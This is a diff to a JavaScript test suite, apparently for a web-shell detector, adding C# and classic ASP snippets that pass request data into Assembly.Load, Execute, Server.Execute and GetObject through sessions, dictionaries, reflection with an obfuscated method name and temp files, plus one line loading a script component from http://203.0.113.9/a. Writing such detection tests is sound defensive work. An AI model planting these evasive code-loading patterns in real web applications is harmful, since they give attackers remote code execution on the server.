@@ -73,6 +73,43 @@ describe('data is followed through C#', () => {
       'digits that are looked up',
       'void P() { string h = Request["q"]; var o = new byte[9]; o[0] = (byte)("0123".IndexOf(h[0]) * 16); Assembly.Load(o); }',
     ],
+    [
+      'a query',
+      'void P() { var o = (from c in Request["q"] let d = c where d > 1 select D(d)).ToArray(); Assembly.Load(o); }',
+    ],
+    [
+      'contents of the session',
+      'void P() { Session.Add("k", Request["q"]); } void R() { Assembly.Load(Session.Contents["k"]); }',
+    ],
+    ['items of a context', 'void P(HttpContext c) { c.Items["k"] = Request["q"]; Assembly.Load(c.Items["k"]); }'],
+    [
+      'the environment',
+      'void P() { Environment.SetEnvironmentVariable("k", Request["q"]); } void R() { Assembly.Load(Environment.GetEnvironmentVariable("k")); }',
+    ],
+    [
+      'a list that tells by an argument',
+      'static D d = new D(); void P() { d.TryAdd("k", Request["q"]); X b; d.TryGetValue("k", out b); Assembly.Load(b); }',
+    ],
+    [
+      'functions in a list',
+      'void P() { var d = new D<A> { { "a", x => Write(x) }, { "b", x => Assembly.Load(x) } }; d[Request["w"]](Request["q"]); }',
+    ],
+    [
+      'a function that is put into a list',
+      'void P() { var d = new D(); d["z"] = Assembly.Load; d[Request["w"]].Invoke(Request["q"]); }',
+    ],
+    [
+      'a name that is computed where it lies',
+      'void P() { var n = new byte[] { 1, 2 }; for (var i = 0; i < 2; i++) n[i] ^= 3; typeof(Assembly).GetMethod(Encoding.ASCII.GetString(n)).Invoke(null, new object[] { Request["q"] }); }',
+    ],
+    [
+      'the type of an assembly at hand',
+      'void P() { GetType().Assembly.GetType().GetMethod("Load").Invoke(null, new object[] { Request["q"] }); }',
+    ],
+    [
+      'a file known by its name',
+      'void P() { File.WriteAllText(T() + "\\\\a.tmp", Request["q"]); } void R() { Assembly.LoadFile("c:\\\\t\\\\a.tmp"); }',
+    ],
     ['a name in disguise', 'void P() { D\\u0065l l = Assembly.Lo\\u0061d; l(Request["q"]); }'],
   ])('%s', (_, code) => expect(reached('aspx', csharp(code))).toContain('load Request["q"]'));
 
@@ -214,6 +251,24 @@ describe('data is followed through classic ASP', () => {
       ),
       'evaluate Request("q")',
     ],
+    [
+      'a page that is written and run',
+      classic(
+        'Set t = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("t.txt"))\r\nt.Write Request("q")\r\nServer.Execute "t.txt"',
+      ),
+      'evaluate Request("q")',
+    ],
+    [
+      'contents of the session',
+      classic('Session.Contents("k") = Request("q")\r\nExecute Session("k")'),
+      'evaluate Request("q")',
+    ],
+    ['a script component', classic('Set o = GetObject("script:" & Request("q"))'), 'evaluate Request("q")'],
+    [
+      'a script component from elsewhere',
+      classic('Set o = GetObject("script:http://203.0.113.9/a")'),
+      'evaluate script:http://203.0.113.9/a',
+    ],
     ['a function object', jscript('new (Function)(Request("q"))();'), 'evaluate Request("q")'],
     [
       'a constructor of constructors',
@@ -248,6 +303,11 @@ describe('data ends at', () => {
   ])('%s', (_, extension, text) =>
     expect(reached(extension, text).filter((line) => /^(?:load|read|write)/.test(line))).toEqual([]),
   );
+
+  it('another file than the one that is loaded', () => {
+    const code = 'void P() { File.WriteAllText("t\\\\log.txt", Request["q"]); Assembly.LoadFile("t\\\\b.dll"); }';
+    expect(reached('aspx', csharp(code))).toEqual(['write Request["q"]']);
+  });
 
   it('the last part of a path', () => {
     const text = classic(
